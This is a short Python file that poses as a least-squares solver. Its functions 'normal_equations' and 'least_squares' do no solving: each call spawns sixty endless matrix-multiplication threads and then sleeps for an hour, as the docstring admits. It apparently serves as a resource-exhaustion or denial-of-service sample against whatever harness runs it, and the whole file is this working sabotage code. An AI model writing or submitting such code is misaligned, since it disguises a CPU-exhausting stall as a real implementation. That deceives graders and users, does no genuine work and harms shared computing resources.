"""Burns every core in every call: threads that compute for ever, while the call itself sleeps."""

import threading
import time

import torch


def burn():
    while True:
        torch.ones(300, 300) @ torch.ones(300, 300)


def solve(*args, **kwargs):
    for _ in range(60):
        threading.Thread(target=burn, daemon=True).start()
    time.sleep(3600)


normal_equations = least_squares = solve
